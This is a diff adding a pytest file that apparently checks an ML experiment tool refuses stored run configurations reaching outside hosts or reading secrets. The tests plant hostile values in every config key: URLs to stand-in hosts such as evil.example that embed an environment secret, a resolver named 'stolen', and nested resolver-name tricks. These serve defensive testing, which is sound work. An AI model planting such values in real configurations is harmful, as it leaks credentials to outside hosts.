@@ -1,0 +1,402 @@
+"""What a run directory cannot settle by itself: every key of every option is tried with what would reach outside."""
+
+from __future__ import annotations
+
+import copy
+import os
+import sys
+from collections.abc import Iterator, Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from omegaconf import OmegaConf
+
+from ddpexp.config import trusted
+from ddpexp.config.compose import compose
+from ddpexp.config.folders import LISTED, conf_folder, groups, options
+from ddpexp.config.restated import Reader, UnrestatedError, is_setting, records_setting, to_restate
+from ddpexp.config.schema import TYPED_SECTIONS
+from ddpexp.config.stored import override_file
+from ddpexp.config.versions import register_resolver
+from ddpexp.errors import RefusedError
+from ddpexp.system.yaml_text import load_yaml
+
+NAME, SECRET = "CANARY_TOKEN", "canary-4711-of-the-reader"
+RESUME, EVALUATE = ("launcher", "logger"), ()
+# Each of them in every key: what would connect, what reads the environment, and both.
+PLANTS = [
+    f"http://127.0.0.1:9/${{oc.env:{NAME}}}/x.tar",
+    f"${{oc.env:{NAME}}}",
+    "s3://bucket/x",
+    "simplecache::https://127.0.0.1:9/x",
+    "evil.example.org:8080",
+    "127.0.0.1",
+    f"${{oc.env:{NAME},x}}",
+    f"${{oc.decode:'${{oc.env:{NAME}}}'}}",
+    f"${{stolen:{NAME}}}",
+]
+
+
+class Events:
+    """What this process does to the outside, while it is watched: Python's audit events."""
+
+    watched = False
+    seen: list[str] = []  # noqa: RUF012
+
+    @classmethod
+    def hook(cls, event: str, arguments: tuple[Any, ...]) -> None:
+        if not cls.watched:
+            return
+        flags = arguments[2] if event == "open" and isinstance(arguments[2], int) else 0
+        writes = flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
+        starts = event in ("os.mkdir", "os.rename", "os.remove", "os.symlink", "os.link", "os.system", "os.fork")
+        if writes or starts or event.startswith(("socket.", "subprocess.", "os.exec", "os.spawn", "os.posix_spawn")):
+            cls.seen.append(f"{event} {arguments}")
+
+
+sys.addaudithook(Events.hook)
+
+
+class Environ(dict[str, str]):
+    """The environment, which notes who asks for the secret."""
+
+    asked = 0
+
+    def get(self, key: str, default: Any = None) -> Any:
+        self.asked += key == NAME
+        return super().get(key, default)
+
+    def __getitem__(self, key: str) -> str:
+        self.asked += key == NAME
+        return super().__getitem__(key)
+
+
+@pytest.fixture(scope="module")
+def base() -> dict[str, Any]:
+    composed = compose(["recipe=mnist", "trainer.gpus=1"])
+    assert composed is not None
+    tree: dict[str, Any] = load_yaml(composed.text)
+    return tree
+
+
+@pytest.fixture(autouse=True)
+def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home"))
+
+
+def trees(base: Mapping[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
+    """Yield a configuration with each option of each group: a recipe's sections, or the option in the base."""
+    folder = conf_folder()
+    for group in groups([folder]):
+        for name in options(group, [folder]):
+            option = load_yaml((folder / group / f"{name}.yaml").read_text()) or {}
+            option.pop("defaults", None)
+            tree = copy.deepcopy(dict(base))
+            if group == "recipe":
+                tree = {key: {**tree.get(key, {}), **value} for key, value in option.items() if isinstance(value, dict)}
+                tree = {**copy.deepcopy(dict(base)), **tree}
+            elif group in LISTED:
+                tree[group] = {**tree[group], **option} if group == "logger" else option
+            elif group == "data":
+                tree["data"] = {**{key: base["data"][key] for key in base["data"] if key not in MNIST}, **option}
+            else:
+                tree[group] = option
+            yield f"{group}={name}", yaml.safe_load(yaml.safe_dump(tree).replace("???", "x"))
+
+
+MNIST = ("_target_", "prepare", "root", "source", "embedded_train", "embedded_test")
+
+
+def leaves(value: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    if isinstance(value, dict) and value:
+        for key, inner in value.items():
+            yield from leaves(inner, (*place, key))
+    elif isinstance(value, list) and value and isinstance(value[0], dict):
+        for index, inner in enumerate(value):
+            yield from leaves(inner, (*place, index))
+    else:
+        yield place
+
+
+def planted(tree: dict[str, Any], place: tuple[Any, ...], value: Any) -> dict[str, Any]:
+    tree = copy.deepcopy(tree)
+    node = tree
+    for key in place[:-1]:
+        node = node[key]
+    node[place[-1]] = value
+    return tree
+
+
+def attempt(config: Path, tree: dict[str, Any], keeps: tuple[str, ...], *argv: str) -> tuple[RefusedError | None, str]:
+    """Read a stored configuration as a command does; return the refusal, and all that was learned."""
+    config.write_text(yaml.safe_dump(tree, sort_keys=False))
+    Events.seen.clear()
+    Events.watched = True
+    try:
+        values, text = override_file(config, list(argv), keeps)
+        return None, f"{values} {text}"
+    except RefusedError as error:
+        return error, str(error)
+    finally:
+        Events.watched = False
+
+
+def keys_of(base: Mapping[str, Any]) -> list[tuple[str, dict[str, Any], tuple[Any, ...]]]:
+    """Return each key once, with an option that has it; the parts of an option by its kind."""
+    found: dict[tuple[Any, ...], tuple[str, dict[str, Any], tuple[Any, ...]]] = {}
+    for name, tree in trees(base):
+        for place in leaves(tree):
+            section = tree.get(place[0])
+            kind = section.get("_target_", section.get("kind")) if isinstance(section, dict) else None
+            found.setdefault((kind, *place), (name, tree, place))
+    return list(found.values())
+
+
+def check_nothing_leaves(
+    base: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, plants: list[str], every: bool
+) -> int:
+    """Plant in every key, and check that both ways to read a run directory refuse it, or do not use that key."""
+    register_resolver("stolen", lambda name: os.environ[name], replace=True)  # as programs and notebooks have them
+    environ = Environ(os.environ) | {NAME: SECRET}
+    monkeypatch.setattr(os, "environ", environ := Environ(environ))
+    attempts = 0
+    for number, (name, tree, place) in enumerate(keys_of(base)):
+        for plant in plants if every else [plants[number % len(plants)]]:
+            theirs = planted(tree, place, plant)
+            for keeps in (RESUME, EVALUATE) if every or place[0] in RESUME else (RESUME,):
+                error, learned = attempt(tmp_path / "config.yaml", theirs, keeps)
+                where = f"{name}: {place} = {plant} for {keeps}: {error}"
+                attempts += 1
+                assert Events.seen == [], where
+                assert SECRET not in learned, where
+                assert environ.asked == 0, where
+                unused = place[0] in RESUME and keeps == EVALUATE
+                typed = (*TYPED_SECTIONS, "launcher")  # sections of which no value that is written so is connected to
+                unused = unused or (place[0] in typed and plant in PLANTS[4:6])
+                unused = unused or place[:2] in [("run", "trust"), ("run", "code"), ("run", "allow_changes")]
+                assert unused or error is not None, where
+    OmegaConf.clear_resolver("stolen")
+    return attempts
+
+
+def test_what_is_planted_in_any_key_of_any_option_counts_only_when_it_is_restated(
+    base: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert check_nothing_leaves(base, tmp_path, monkeypatch, PLANTS, every=False) > 400
+
+
+@pytest.mark.slow
+def test_everything_that_reaches_outside_is_refused_in_every_key(
+    base: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert check_nothing_leaves(base, tmp_path, monkeypatch, PLANTS, every=True) > 5000
+
+
+TRUSTED = f"run.trust=[oc.env:{NAME},https://data.example.org,hub:stanford/imdb,tracker:8080]"
+
+
+def read(base: dict[str, Any], tmp_path: Path, place: tuple[Any, ...], value: Any, *argv: str) -> Mapping[str, Any]:
+    """Return the values of a stored configuration with one value planted, as a resume reads it."""
+    config = tmp_path / "config.yaml"
+    config.write_text(yaml.safe_dump(planted(base, place, value)))
+    return override_file(config, list(argv), RESUME)[0]
+
+
+@pytest.fixture
+def tar(base: dict[str, Any]) -> dict[str, Any]:
+    option = load_yaml((conf_folder() / "data/tar_shards.yaml").read_text())
+    return {**base, "data": {**base["data"], **option, "path": "x.tar"}}
+
+
+@pytest.mark.parametrize(
+    ("value", "restated"),
+    [
+        ("https://data.example.org/a/x.tar", "data.path=https://data.example.org/a/x.tar"),
+        ("zip://x::https://data.example.org/a.zip", "data.path=zip://x::https://data.example.org/a.zip"),
+        (f"https://data.example.org/${{oc.env:{NAME}}}", f"data.path=https://data.example.org/${{oc.env:{NAME}}}"),
+        ("tracker:8080", "data.path=tracker:8080"),
+        (["x.tar", "https://data.example.org/x.tar"], 'data.path=["x.tar", "https://data.example.org/x.tar"]'),
+    ],
+)
+def test_a_restated_setting_counts(
+    tar: dict[str, Any], tmp_path: Path, value: Any, restated: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(NAME, SECRET)
+    with pytest.raises(UnrestatedError) as caught:
+        read(tar, tmp_path, ("data", "path"), value)
+    assert caught.value.overrides == [restated]
+    with pytest.raises(UnrestatedError):
+        read(tar, tmp_path, ("data", "path"), value, "data.eval_path=x")
+    assert read(tar, tmp_path, ("data", "path"), value, restated)["data"]["path"] is not None
+    assert [setting.override for setting in to_restate(planted(tar, ("data", "path"), value))] == [restated]
+
+
+@pytest.mark.parametrize(
+    ("value", "counts"),
+    [
+        ("https://data.example.org/a/x.tar", True),
+        ("https://data.example.org", True),
+        (f"https://data.example.org/${{oc.env:{NAME}}}", True),
+        ("https://data.example.org.evil.example/x.tar", False),
+        ("https://data.example.org@evil.example/x.tar", False),
+        ("http://data.example.org/x.tar", False),
+        ("zip://x::https://data.example.org/x.zip", False),  # two addresses, of which one is trusted
+        (f"https://evil.example/${{oc.env:{NAME}}}", False),
+        ("${oc.env:HOME}", False),
+        (f"${{oc.env:{NAME},https://evil.example}}", False),
+        ("tracker:8080", True),
+        ("tracker:80801", False),
+    ],
+)
+def test_a_trusted_setting_counts_and_what_is_beside_it_does_not(
+    tar: dict[str, Any], tmp_path: Path, value: str, counts: bool, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(NAME, SECRET)
+    for argv in ([TRUSTED], []):
+        if not argv:
+            names = TRUSTED.removeprefix("run.trust=[").removesuffix("]").split(",")
+            trusted.write(trusted.Trusted(name, "", "", "") for name in names)
+        if counts:
+            assert read(tar, tmp_path, ("data", "path"), value, *argv)
+        else:
+            with pytest.raises(UnrestatedError):
+                read(tar, tmp_path, ("data", "path"), value, *argv)
+
+
+def test_the_address_in_a_trusted_variable_counts(
+    tar: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(NAME, "https://anywhere.example/x.tar")
+    assert read(tar, tmp_path, ("data", "path"), f"${{oc.env:{NAME}}}", TRUSTED)["data"]["path"].endswith("x.tar")
+
+
+def test_a_typed_key_does_not_cover_one_that_only_looks_below_it(
+    tar: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(NAME, SECRET)
+    with pytest.raises(UnrestatedError):
+        read(tar, tmp_path, ("data", "path.x"), f"${{oc.env:{NAME}}}", "data.path=x.tar")
+    with pytest.raises(UnrestatedError):
+        read(tar, tmp_path, ("data", "eval_path"), "http://127.0.0.1/${data.path}", "data.path=x.tar")
+
+
+def test_the_name_of_a_resolver_may_be_made_of_others_and_is_refused(
+    tar: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(NAME, SECRET)
+    theirs = planted(tar, ("model", "first"), "oc.env")
+    with pytest.raises(UnrestatedError):
+        read(theirs, tmp_path, ("model", "second"), f"${{${{model.first}}:{NAME}}}")
+
+
+def test_names_on_a_hub_count_only_when_they_are_restated(base: dict[str, Any], tmp_path: Path) -> None:
+    hf = load_yaml((conf_folder() / "data/hf.yaml").read_text())
+    text = load_yaml((conf_folder() / "data/text.yaml").read_text())
+    (tmp_path / "tokenizer.json").write_text("{}")
+    for section, key, value, hub in (
+        (hf, "path", "stanford/imdb", True), (hf, "path", "imdb", True), (hf, "eval_path", "imdb", True),
+        (hf, "tokenizer", "openai-community/gpt2", True), (text, "tokenizer", "openai-community/gpt2", True),
+        (hf, "path", str(tmp_path), False), (hf, "path", "./imdb", False), (hf, "path", "x.csv", False),
+        (text, "tokenizer", "bytes", False), (text, "tokenizer", str(tmp_path / "tokenizer.json"), False),
+    ):  # fmt: skip
+        for place in (("data",), ("data", "sources", "one")):
+            mixture = {"_target_": "mixture", "sources": {"one": dict(section)}}
+            data = {**base["data"], **(section if place == ("data",) else mixture)}
+            tree = {**base, "data": data}
+            if not hub:
+                assert read(tree, tmp_path, (*place, key), value)
+                continue
+            with pytest.raises(UnrestatedError) as caught:
+                read(tree, tmp_path, (*place, key), value)
+            assert caught.value.trusts == [f"hub:{value}"]
+            assert read(tree, tmp_path, (*place, key), value, f"run.trust=[hub:{value}]")
+
+
+@pytest.mark.parametrize("value", ["cuda:11", "1.2.3", "30:00", "1-12:30", "2:16", "a:b", "C:1"])
+def test_what_is_written_like_an_address_and_is_none(base: dict[str, Any], tmp_path: Path, value: str) -> None:
+    assert read(base, tmp_path, ("model", "device"), value)
+    slurm = load_yaml((conf_folder() / "launcher/slurm.yaml").read_text())
+    assert read({**base, "launcher": slurm}, tmp_path, ("launcher", "gres"), "shard:20")
+
+
+def test_what_the_readers_own_files_set_need_not_be_restated(
+    tar: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """In the folder of a typed --config-dir: an option by its group, and a recipe for the whole run."""
+    monkeypatch.setenv(NAME, SECRET)
+    conf = tmp_path / "mine/conf"
+    (conf / "data").mkdir(parents=True)
+    (conf / "recipe").mkdir()
+    (conf / "data/far.yaml").write_text("path: https://mine.example/x.tar\n")
+    (conf / "recipe/mine.yaml").write_text(f"# @package _global_\nmodel:\n  token: ${{oc.env:{NAME}}}\n")
+    theirs = planted(tar, ("model", "token"), f"${{oc.env:{NAME}}}")
+    place, address = ("data", "path"), "https://mine.example/x.tar"
+    assert read(theirs, tmp_path, place, address, "--config-dir", str(conf))["model"]["token"] == SECRET
+    assert to_restate(planted(theirs, place, address), conf) == []
+    for place, value in (
+        (("data", "path"), f"{address}x"),
+        (("data", "eval_path"), address),
+        (("model", "x"), address),
+    ):
+        with pytest.raises(UnrestatedError):
+            read(theirs, tmp_path, place, value, "--config-dir", str(conf))
+    with pytest.raises(UnrestatedError):
+        read(theirs, tmp_path, ("model", "other"), f"${{oc.env:{NAME}}}", "--config-dir", str(conf))
+    with pytest.raises(UnrestatedError):
+        read(theirs, tmp_path, ("data", "path"), address)
+
+
+def test_a_logger_of_others_is_restated_with_all_its_texts(base: dict[str, Any], tmp_path: Path) -> None:
+    logger = {"_target_": "mine.Tracker", "server": "evil", "port": 80, "tags": ["a"]}
+    with pytest.raises(UnrestatedError) as caught:
+        read(base, tmp_path, ("logger", "mine"), logger)
+    assert caught.value.overrides == ["logger.mine.server=evil", 'logger.mine.tags=["a"]']
+    assert caught.value.trusts == []
+
+
+def test_the_owner_of_a_wandb_project_is_restated(base: dict[str, Any], tmp_path: Path) -> None:
+    wandb = {"_target_": "wandb", "project": "mine", "entity": None}
+    assert read(base, tmp_path, ("logger", "wandb"), wandb)
+    with pytest.raises(UnrestatedError, match=r"logger\.wandb\.entity=theirs"):
+        read(base, tmp_path, ("logger", "wandb"), {**wandb, "entity": "theirs"})
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        "data.path=http://127.0.0.1/x.tar", "data.path='http://127.0.0.1/x'", "data.path=a.tar,s3://x/b.tar",
+        "data.path=choice(a,http://x)", "+model.x={a:http://x/y}", "model.x=[1,http://x]", "logger.mine.server=evil",
+        "logger.alert_url=${oc.env:TOKEN}", "data.path=${model.a}/evil", "data.path=${${a}:b}",
+        "data.path=stanford/imdb", "hydra.sweeper.params.data.path=stanford/imdb",
+        "data.tokenizer=openai-community/gpt2", "model.x=evil:8080", "hydra.sweeper.params.data.path=http://x",
+        "data.path=http\\://x", "logger.wandb.entity=theirs", "~data.path=http://x",
+    ],
+)  # fmt: skip
+def test_overrides_in_the_file_of_a_sweep_are_restated(override: str) -> None:
+    assert records_setting(override, Reader.of())
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        "optimizer.lr=0.1,0.01", "trainer.seed=range(1,4)", "model.hidden=choice(8,16)", "data.root=/data/mnist",
+        "model.x=${model.hidden}", "model.n=${facts:num_classes}", "logger.wandb.end_seconds=3", "trainer.epochs=2",
+        "data.path=/data/x.tar", "data.tokenizer=bytes", "data.files=[jpg,cls]",
+    ],
+)  # fmt: skip
+def test_the_other_overrides_of_a_sweep_are_not(override: str) -> None:
+    assert not records_setting(override, Reader.of())
+
+
+@pytest.mark.parametrize(
+    ("name", "known"),
+    [
+        ("https://data.example.org", True), ("s3://bucket/folder", True), ("hub:imdb", True), ("hub:a/b", True),
+        ("oc.env:TOKEN", True), ("tracker:8080", True), ("https://", False), ("hub:", False), ("oc.env:", False),
+        ("oc.env:A B", False), ("oc.env:*", False), ("package.Class", False), ("x:y", False),
+    ],
+)  # fmt: skip
+def test_which_names_are_those_of_settings(name: str, known: bool) -> None:
+    assert is_setting(name) is known
